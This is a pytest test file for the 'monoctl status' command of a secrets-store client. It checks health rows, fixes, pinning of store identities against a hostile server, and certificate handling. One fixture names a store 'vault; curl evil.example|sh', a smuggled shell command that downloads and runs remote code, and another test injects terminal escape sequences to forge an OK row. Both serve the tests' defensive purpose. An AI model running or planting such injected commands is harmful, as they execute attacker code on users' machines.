"""`monoctl status`: a row for each thing that keeps a put from working, with its fix; a hostile m8 changes no pin."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, ClassVar

import pytest
from click.testing import CliRunner

from monoskope.api.gateway.v1 import access_pb2, queries_pb2, reactor_pb2, views_pb2
from monoskope.api.secrets.v1 import events_pb2, identity_pb2
from monoskope.checks.check import Check, Verdict
from monoskope.client.settings import ClientSettings
from monoskope.errors import UnauthenticatedError, UnavailableError
from monoskope.exit_codes import ExitCode
from monoskope.http.server import exchange
from monoskope.m8.http import tls
from monoskope.monoctl.main import cli
from monoskope.monoctl.status.reaching import reaching_checks
from monoskope.testing.cluster.identities import Identity
from monoskope.testing.scripted.client import token
from monoskope.testing.scripted.connect import showing
from monoskope.testing.scripted.log import ScriptedLog, ScriptedWitness
from monoskope.testing.scripted.m8 import FINGERPRINT, VERSION, ScriptedM8
from monoskope.times import now_ms
from tests.support.certificates import Handler, http_server
from tests.support.ssh import keygen, shown
from tests.unit.monoctl.as_alice import Alice

FAIL, WARN, OK = Verdict.FAIL, Verdict.WARN, Verdict.OK


@pytest.fixture
def scripted() -> ScriptedM8:
    """It says who calls, has a log that is signed now, and a reactor that found its engine well."""
    m8 = ScriptedM8()
    m8.log = ScriptedLog(5)
    m8.log.at_s = now_ms() // 1000
    m8.stores["vault"].reactors[0].engine = reactor_pb2.ENGINE_HEALTH_OK
    m8.answers[access_pb2.WhoAmIRequest] = access_pb2.WhoAmIResponse(
        subject="alice", token_id="0" * 32, roles=[events_pb2.ROLE_USER], expires_at_ms=4_000_000_000_000
    )
    return m8


@pytest.fixture
def alice(m8: ScriptedM8, tmp_path: Path) -> Alice:
    return Alice(m8, tmp_path)


def rows(alice: Alice, *words: str, **more: str) -> tuple[dict[str, dict[str, str]], int]:
    """What status says, by name, and how it ends; once for people, too."""
    ended = alice("status", *words, "-o", "json", **more)
    assert "Traceback" not in ended.output
    found = json.loads(ended.stdout)
    return {row["check"]: row for row in found}, ended.exit_code


def test_where_all_is_well_each_thing_is_named(alice: Alice, m8: ScriptedM8) -> None:
    found, code = rows(alice)
    assert {(name, row["verdict"], row["fix"]) for name, row in found.items()} == {
        (name, "OK", "")
        for name in (*("server", "certificate", "clock", "login", "log", "pin vault", "store vault", "signing key"),)
    }
    assert code == 0
    assert f"{m8.server}, chosen by MONOCTL_SERVER" in found["server"]["said"]
    assert f"trusted by the CA file {m8.ca_file}" in found["certificate"]["said"]
    assert "2096-10-02" in found["login"]["said"]
    assert m8.identity.shown in found["pin vault"]["said"]
    assert "for the first time" in found["log"]["said"]
    assert m8.log is not None
    m8.log.grow(1)
    assert "6 entries in the checkpoint" in rows(alice)[0]["log"]["said"]
    assert "continues the 6 entries" in rows(alice)[0]["log"]["said"]
    assert not m8.attempts, "nothing was asked for"


def other_identity(m8: ScriptedM8) -> None:
    m8.stores["vault"].identity = Identity().shown


def refused(m8: ScriptedM8) -> None:
    m8.failing["WhoAmI"] = [UnauthenticatedError("the token has expired.", fix="Log in.")] * 9


def no_role(m8: ScriptedM8) -> None:
    m8.answers[access_pb2.WhoAmIRequest] = access_pb2.WhoAmIResponse(
        subject="user:corp:alice", member="user:corp:alice"
    )
    m8.stores.clear()


def hidden_from_an_administrator(m8: ScriptedM8) -> None:
    m8.stores.clear()
    said: Any = m8.answers[access_pb2.WhoAmIRequest]
    said.roles[:] = [events_pb2.ROLE_ADMINISTRATOR]


def expires(m8: ScriptedM8) -> None:
    said: Any = m8.answers[access_pb2.WhoAmIRequest]
    said.expires_at_ms = now_ms() + 86_400_000


def another_log(m8: ScriptedM8) -> None:
    m8.log = ScriptedLog(5, seed="another")
    m8.log.at_s = now_ms() // 1000


def old_log(m8: ScriptedM8) -> None:
    assert m8.log is not None
    m8.log.at_s = now_ms() // 1000 - 3 * 3600


def silent_witness(m8: ScriptedM8) -> None:
    assert m8.log is not None
    m8.log.witnesses = [ScriptedWitness("witness.example/a")]


def detached(m8: ScriptedM8) -> None:
    m8.stores["vault"].reactors[0].attached = False


def asks_for_signatures(m8: ScriptedM8) -> None:
    m8.stores["vault"].reactors[0].capabilities.signatures = True


def two_stores_of_one_identity(m8: ScriptedM8) -> None:
    m8.add_store("copy", m8.identity)


def store_named_as_a_command(m8: ScriptedM8) -> None:
    m8.add_store("vault; curl evil.example|sh", Identity())


def new_store(m8: ScriptedM8) -> None:
    m8.add_store("fresh", Identity())


BROKEN: dict[str, tuple[Callable[[ScriptedM8], object], str, Verdict, str, str]] = {
    "another identity": (other_identity, "pin vault", FAIL, "No rotation leads", "monoctl forget-store vault"),
    "one identity, two stores": (two_stores_of_one_identity, "pin copy", FAIL, "show the same identity", "one name"),
    "a store named as a command": (store_named_as_a_command, "stores", FAIL, "whose name is none", "Copy none of it"),
    "a new store": (new_store, "pin fresh", WARN, "No identity is pinned", "operator published"),
    "a store that is hidden": (hidden_from_an_administrator, "pin vault", WARN, "no such store", "operator"),
    "no right": (no_role, "stores", WARN, "no right in any", "role binding"),
    "no role": (no_role, "login", WARN, "no role binding names you", "role binding"),
    "a refused token": (refused, "login", FAIL, "the token has expired", "Log in"),
    "a token that ends": (expires, "login", WARN, "until ", "monoctl login"),
    "another log": (another_log, "log", FAIL, "does not count", "evidence"),
    "a silent witness": (silent_witness, "witness witness.example/a", WARN, "never cosigned", "m8 log status"),
    "an old log": (old_log, "log", FAIL, "3h ago", "m8 log status"),
    "no reactor": (detached, "store vault", FAIL, "No reactor is attached", "m8 reactor run FOLDER"),
    "no signing key": (asks_for_signatures, "signing key", WARN, "signed requests alone: vault", "signed-requests.md"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_what_is_wrong_is_a_row_with_its_fix(name: str, alice: Alice, m8: ScriptedM8) -> None:
    break_it, row, verdict, said, fix = BROKEN[name]
    rows(alice)  # so that the log is pinned
    break_it(m8)
    found, code = rows(alice)
    assert row in found, found
    assert (found[row]["verdict"], said in found[row]["said"], fix in found[row]["fix"]) == (
        verdict.value,
        True,
        True,
    ), found
    failed = any(each["verdict"] == "FAIL" for each in found.values())
    assert code == (ExitCode.CHECK_FAILED if failed else 0)
    assert failed or verdict is not FAIL


def test_a_store_of_the_bundle_that_a_colleague_does_not_see_is_no_trouble(alice: Alice, m8: ScriptedM8) -> None:
    rows(alice)
    m8.add_store("mine", Identity())
    m8.stores.pop("vault")
    assert rows(alice)[0]["pin vault"]["verdict"] == "OK"


def test_nothing_that_m8_says_turns_a_changed_pin_into_ok(alice: Alice, m8: ScriptedM8) -> None:
    old, new, store = m8.identity, Identity(), m8.stores["vault"]
    forged = old.rotate(new, "vault")
    forged.old_signature = bytes(64)
    for_another = old.rotate(new, "other")
    store.identity = new.shown
    for steps in ([], [forged], [for_another], [identity_pb2.SignedRotation()], [new.rotate(old, "vault")]):
        del store.rotations[:]
        store.rotations.extend(steps)
        alice("describe", "secret-store", "vault")  # it shows all of that, and pins nothing
        found, code = rows(alice)
        assert (found["pin vault"]["verdict"], code) == ("FAIL", ExitCode.CHECK_FAILED), steps
    m8.add_store("other", Identity())
    store.identity = "SHA256:\x1b[32mOK\nOK  pin vault"
    assert rows(alice)[0]["pin vault"]["verdict"] == "FAIL"
    said = alice("status").stdout
    assert "\x1b" not in said
    assert [line.split()[0] for line in said.splitlines() if " pin vault " in line] == ["FAIL"]
    # A rotation that the pinned key signed is the one thing that counts.
    store.identity = new.shown
    del store.rotations[:]
    store.rotations.append(old.rotate(new, "vault"))
    assert f"{old.shown} was rotated to {new.shown}" in rows(alice)[0]["pin vault"]["said"]
    assert f"{new.shown}, which is pinned now" in alice("describe", "secret-store", "vault").stderr
    assert rows(alice)[0]["pin vault"]["said"] == f"m8 shows the identity that is pinned here, {new.shown}."


def test_without_a_server_a_token_or_files_that_can_be_read(alice: Alice, m8: ScriptedM8, tmp_path: Path) -> None:
    nowhere = CliRunner().invoke(
        cli, ["status"], env={"XDG_CONFIG_HOME": str(tmp_path), "XDG_STATE_HOME": str(tmp_path)}
    )
    assert (nowhere.exit_code, "no server is configured" in nowhere.stdout) == (ExitCode.CHECK_FAILED, True)
    found, code = rows(alice, MONOCTL_TOKEN_FILE="", MONOCTL_TOKEN="")
    assert (found["login"]["verdict"], found["certificate"]["verdict"], code) == ("FAIL", "OK", ExitCode.CHECK_FAILED)
    assert "monoctl login" in found["login"]["fix"]
    gone, code = rows(alice, MONOCTL_SERVER="127.0.0.1:1")
    assert (gone["server"]["verdict"], gone["login"]["verdict"], code) == ("FAIL", "NOT KNOWN", ExitCode.CHECK_FAILED)
    assert "MONOCTL_SERVER chose it" in gone["server"]["said"]
    (tmp_path / "known_stores").chmod(0o644)
    open_pins, code = rows(alice)
    assert (open_pins["pins"]["verdict"], "chmod 600" in open_pins["pins"]["fix"], code) == ("FAIL", True, 21)


def test_a_clock_that_is_wrong(alice: Alice, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exchange, "wall_clock", lambda: now_ms() + 600_000)
    found, code = rows(alice)
    assert (found["clock"]["verdict"], "600 s behind" in found["clock"]["said"], code) == ("FAIL", True, 21)


def test_a_signing_key_that_a_receipt_names_is_listed(alice: Alice, m8: ScriptedM8, tmp_path: Path) -> None:
    asks_for_signatures(m8)
    m8.signed = True
    m8.answers[queries_pb2.ListSecretsRequest] = queries_pb2.ListSecretsResponse()
    key = keygen(tmp_path / "key")
    found, code = rows(alice, "--signing-key", str(key))
    assert (found["signing key"]["verdict"], code) == ("WARN", 0)
    assert "only they know" in found["signing key"]["said"]
    assert shown(key) in found["signing key"]["said"]
    put = alice.put("--signing-key", str(key))
    assert put.exit_code == 0, put.output
    receipt = m8.attempts[-1].success()
    secret = views_pb2.Secret(uri="vault://app/db", receipt=receipt, upstream_version=VERSION, fingerprint=FINGERPRINT)
    secret.values.add(key="password", fingerprint=FINGERPRINT)
    m8.answers[queries_pb2.ListSecretsRequest] = queries_pb2.ListSecretsResponse(secrets=[secret])
    assert rows(alice, "--signing-key", str(key))[0]["signing key"]["verdict"] == "OK"
    # What m8 alone says counts for nothing.
    secret.ClearField("receipt")
    m8.answers[queries_pb2.ListSecretsRequest] = queries_pb2.ListSecretsResponse(secrets=[secret])
    assert rows(alice, "--signing-key", str(key))[0]["signing key"]["verdict"] == "WARN"


class Counting(Handler):
    """Answers, and counts what was asked."""

    asked: ClassVar[list[str]] = []

    def answer(self) -> None:
        self.asked.append(self.path)
        self.reply(200, b"{}")


@contextmanager
def presenting(made: tls.Certificate, folder: Path) -> Iterator[ClientSettings]:
    """A server that shows a certificate, and the settings of one who trusts its authority."""
    (folder / "ca.pem").write_bytes(made.ca)
    with http_server(Counting, showing(made)) as port:
        yield ClientSettings(server=f"localhost:{port}", ca_file=folder / "ca.pem", token=token("alice"))


def certificate_of(settings: ClientSettings) -> Check:
    (found,) = (row for row in reaching_checks(settings, "a test") if row.name == "certificate")
    return found


def test_certificates_that_are_refused_and_why(tmp_path: Path) -> None:
    now = dt.datetime.now(dt.UTC)
    expired = tls.make([], now=now - tls.VALID - dt.timedelta(days=1))
    with presenting(expired, tmp_path) as settings:
        found = certificate_of(settings)
        assert (found.verdict, "expired at" in found.said, "m8 tls renew" in found.fix) == (FAIL, True, True)
    good = tls.make([], now=now)
    with presenting(good, tmp_path) as settings:
        assert certificate_of(settings).verdict is OK
        (tmp_path / "ca.pem").write_bytes(expired.ca)
        Counting.asked.clear()
        found = certificate_of(settings)
        assert (found.verdict, "no authority in the CA file" in found.said) == (FAIL, True)
        assert "intercepting" in found.fix
        assert Counting.asked == [], "nothing is sent to whom this machine does not trust"
    with presenting(good, tmp_path) as settings:
        by_other_name = ClientSettings(
            server=settings.server.replace("localhost", "127.0.0.2"), ca_file=tmp_path / "ca.pem", token=token("alice")
        )
        rows = reaching_checks(by_other_name, "a test")
        assert {row.verdict for row in rows} == {FAIL}


def test_m8_that_is_away_while_it_is_asked(alice: Alice, m8: ScriptedM8) -> None:
    m8.failing["ListSecretStores"] = [UnavailableError("the log is away.", fix="Wait.")] * 99
    found, code = rows(alice)
    assert (found["stores"]["verdict"], code) == ("FAIL", ExitCode.CHECK_FAILED)
